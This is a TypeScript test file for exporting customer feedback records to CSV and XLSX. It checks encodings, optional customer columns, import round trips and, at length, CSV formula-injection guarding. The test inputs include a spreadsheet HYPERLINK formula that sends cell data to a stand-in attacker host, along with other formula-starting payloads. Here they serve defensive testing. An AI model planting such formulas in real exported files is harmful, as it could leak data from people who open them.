import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { normalizeText } from "../shared/normalize.js";
import { type ExportRow, encodeCp932, writeVoicesCsv, writeVoicesXlsx } from "./export-voices.js";
import {
  CATEGORIES,
  CHANNELS,
  DEPARTMENTS,
  idOf,
  PRODUCT_LINES,
  TYPES,
  testContext,
} from "./fixtures/taxonomy.js";
import { readTable } from "./read-table.js";
import { type ImportRow, validateImportRows } from "./voice-import-rows.js";

const ROWS: ExportRow[] = [
  {
    receiptNumber: "V-2025-000001",
    receivedAt: "2025-04-01T01:30:00.000Z",
    channel: "コールセンター",
    type: "苦情",
    category: "応対に関するもの",
    productLine: "自動車共済",
    department: "コールセンター課",
    content: "=SUM(A1)",
    remedySought: "-5度",
    customer: {
      name: "山田 花子",
      memberNumber: "0012345",
      phone: "+81-90-1234-5678",
      email: "hanako@example.jp",
      prefecture: "福井県",
      ageBand: "50代",
      gender: "女性",
    },
    externalId: "@ext-1",
    status: "in_progress",
    assignee: "佐藤",
    resolveBy: "2025-04-15",
  },
  {
    receiptNumber: "V-2025-000002",
    receivedAt: "2025-03-31T15:00:00.000Z",
    channel: "窓口（支所・共済ショップ）",
    type: "意見・要望",
    category: "ご契約の保全、掛金収納に関するもの",
    productLine: null,
    department: "福井支所",
    content: '住所変更の手続きが\n分かりにくい。"書類"が多い、と。\n+αの説明がほしい〜',
    remedySought: null,
    customer: null,
    externalId: null,
    status: "受付",
    assignee: null,
    resolveBy: null,
  },
  {
    receiptNumber: "V-2025-000003",
    receivedAt: "2025-06-30T23:59:00.000Z",
    channel: "ホームページ・マイページ",
    type: "感謝・評価",
    category: "共済金のお支払いに関するもの",
    productLine: "火災共済",
    department: "お客様相談室",
    content: "髙橋さんの①迅速な対応に感謝します。",
    remedySought: "",
    customer: {
      name: null,
      memberNumber: null,
      phone: null,
      email: null,
      prefecture: "東京都",
      ageBand: null,
      gender: null,
    },
    externalId: "ext-3",
    status: "closed",
    assignee: "鈴木",
    resolveBy: null,
  },
];

/** What import should give back for an exported row (labels become ids, text goes through normalizeText). */
function expected(row: ExportRow, rowNumber: number, withCustomer: boolean): ImportRow {
  return {
    row: rowNumber,
    externalId: row.externalId,
    receivedAt: row.receivedAt,
    channelId: idOf(CHANNELS, row.channel),
    typeId: idOf(TYPES, row.type),
    categoryId: idOf(CATEGORIES, row.category ?? ""),
    productLineId: row.productLine === null ? null : idOf(PRODUCT_LINES, row.productLine),
    departmentId: idOf(DEPARTMENTS, row.department),
    content: normalizeText(row.content),
    remedySought: row.remedySought || null,
    customer: withCustomer ? row.customer : null,
  };
}

async function* asyncRows(rows: ExportRow[]): AsyncGenerator<ExportRow> {
  for (const row of rows) yield row;
}

describe("writeVoicesCsv", () => {
  it("writes UTF-8 with a BOM, CRLF line ends and the export header", async () => {
    const buf = await writeVoicesCsv(ROWS, { includeCustomer: false });
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = buf.subarray(3).toString("utf8");
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(
      "受付番号,受付日時,受付チャネル,種別,分類,商品,部署,内容,ご要望,外部ID,状態,担当者,回答期限",
    );
    expect(lines[1]).toBe(
      "V-2025-000001,2025/04/01 10:30,コールセンター,苦情,応対に関するもの,自動車共済,コールセンター課,'=SUM(A1),'-5度,'@ext-1,対応中,佐藤,2025/04/15",
    );
    expect(text).not.toContain("山田");
    expect(text.endsWith("\r\n")).toBe(true);
  });

  it("neutralizes formulas: =HYPERLINK, +, -, @, tab and CR starts get an apostrophe", async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
    const row = ROWS[1] as ExportRow;
    const buf = await writeVoicesCsv(
      [
        { ...row, content: evil, remedySought: "+1+1", externalId: "\t=1+2" },
        { ...row, content: "@SUM(1)", remedySought: "\r=1", externalId: "a=1" },
      ],
      { includeCustomer: false },
    );
    const table = await readTable(buf, "x.csv");
    const cols = ["内容", "ご要望", "外部ID"].map((h) => table.headers.indexOf(h));
    expect(table.rows.map((r) => cols.map((c) => r[c]))).toEqual([
      [`'${evil}`, "'+1+1", "'\t=1+2"],
      ["'@SUM(1)", "'\r=1", "a=1"],
    ]);
    // every cell that starts like a formula carries the guard
    for (const r of table.rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("writes customer columns only when asked", async () => {
    const text = (await writeVoicesCsv(ROWS, { includeCustomer: true })).toString("utf8");
    expect(text.split("\r\n")[0]).toContain("氏名,組合員番号,電話番号,メール,都道府県,年代,性別");
    expect(text).toContain("山田 花子");
  });

  it("writes Shift_JIS without a BOM; characters outside CP932 become 〓, wave dashes survive", async () => {
    const row = { ...(ROWS[1] as ExportRow), content: "😀絵文字と〜波ダッシュ−と髙①", remedySought: "é?" };
    const buf = await writeVoicesCsv([row], { encoding: "sjis", includeCustomer: false });
    expect(buf[0]).not.toBe(0xef);
    const text = iconv.decode(buf, "cp932");
    expect(text).toContain("〓絵文字と～波ダッシュ－と髙①");
    expect(text).toContain(",〓?,");
    expect(encodeCp932("ok?")).toEqual(Buffer.from("ok?"));
  });

  it("accepts an async iterable and streams many rows", async () => {
    const many = Array.from({ length: 2500 }, (_, i) => ({
      ...(ROWS[0] as ExportRow),
      receiptNumber: `V-${i}`,
    }));
    const buf = await writeVoicesCsv(asyncRows(many), { encoding: "sjis", includeCustomer: true });
    const table = await readTable(buf, "many.csv");
    expect(table.rows).toHaveLength(2500);
    expect(table.rows[2499]?.[0]).toBe("V-2499");
  });
});

describe("writeVoicesXlsx", () => {
  it("writes a bold frozen header, widths, dates as text and formulas as plain strings", async () => {
    const evil = '=HYPERLINK("http://evil.example","x")';
    const buf = await writeVoicesXlsx([{ ...(ROWS[0] as ExportRow), content: evil }], {
      includeCustomer: false,
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buf as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error("no sheet");
    expect(sheet.getCell("A1").value).toBe("受付番号");
    expect(sheet.getCell("A1").font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.getColumn(8).width).toBe(60);
    expect(sheet.getCell("B2").value).toBe("2025/04/01 10:30");
    const content = sheet.getCell("H2");
    expect(content.type).toBe(ExcelJS.ValueType.String);
    expect(content.formula).toBeUndefined();
    expect(content.value).toBe(evil);
  });
});

describe("export → readTable → validateImportRows round trip", () => {
  const cases = [
    {
      name: "CSV UTF-8",
      write: (c: boolean) => writeVoicesCsv(ROWS, { includeCustomer: c }),
      file: "out.csv",
    },
    {
      name: "CSV Shift_JIS",
      write: (c: boolean) => writeVoicesCsv(asyncRows(ROWS), { encoding: "sjis", includeCustomer: c }),
      file: "out.csv",
    },
    {
      name: "XLSX",
      write: (c: boolean) => writeVoicesXlsx(asyncRows(ROWS), { includeCustomer: c }),
      file: "out.xlsx",
    },
  ];
  for (const { name, write, file } of cases) {
    for (const withCustomer of [true, false]) {
      it(`${name}${withCustomer ? " with customer columns" : ""} gives back equal values`, async () => {
        const table = await readTable(await write(withCustomer), file);
        const result = await validateImportRows(table, testContext());
        expect(result.problems).toEqual([]);
        expect(result.ignoredColumns).toEqual(["受付番号", "状態", "担当者", "回答期限"]);
        expect(result.valid).toEqual(ROWS.map((r, i) => expected(r, i + 2, withCustomer)));
        expect(result.valid[0]?.content).toBe("=SUM(A1)");
        expect(result.valid[0]?.remedySought).toBe("-5度");
      });
    }
  }
});

describe("formula guard round trip (text that really starts with an apostrophe)", () => {
  // Content a member or staff really typed: an apostrophe before =, +, - or @ is not a guard and must come back.
  const TRICKY: ExportRow[] = [
    { ...(ROWS[1] as ExportRow), content: "'=SUM(A1) と書かれた申込書が届いた", remedySought: "'-5度の説明" },
    { ...(ROWS[1] as ExportRow), content: "''+1 は誤記です", remedySought: "'@ホームの表示" },
    { ...(ROWS[1] as ExportRow), content: "'普通のアポストロフィ", remedySought: "'" },
    { ...(ROWS[1] as ExportRow), content: '=HYPERLINK("http://evil.example")', remedySought: "+81 の番号" },
  ];
  const cases = [
    { name: "CSV UTF-8", write: () => writeVoicesCsv(TRICKY, { includeCustomer: false }), file: "t.csv" },
    {
      name: "CSV Shift_JIS",
      write: () => writeVoicesCsv(TRICKY, { encoding: "sjis", includeCustomer: false }),
      file: "t.csv",
    },
    { name: "XLSX", write: () => writeVoicesXlsx(TRICKY, { includeCustomer: false }), file: "t.xlsx" },
  ];
  for (const { name, write, file } of cases) {
    it(`${name}: export → import gives back the apostrophes`, async () => {
      const result = await validateImportRows(await readTable(await write(), file), testContext());
      expect(result.problems).toEqual([]);
      expect(result.valid.map((r) => [r.content, r.remedySought])).toEqual(
        TRICKY.map((r) => [normalizeText(r.content), r.remedySought]),
      );
    });
  }

  it("CSV: a guard-like start gets one more apostrophe, so no cell starts a formula", async () => {
    const table = await readTable(await writeVoicesCsv(TRICKY, { includeCustomer: false }), "t.csv");
    const content = table.headers.indexOf("内容");
    expect(table.rows.map((r) => r[content])).toEqual([
      "''=SUM(A1) と書かれた申込書が届いた",
      "'''+1 は誤記です",
      "'普通のアポストロフィ",
      '\'=HYPERLINK("http://evil.example")',
    ]);
  });
});
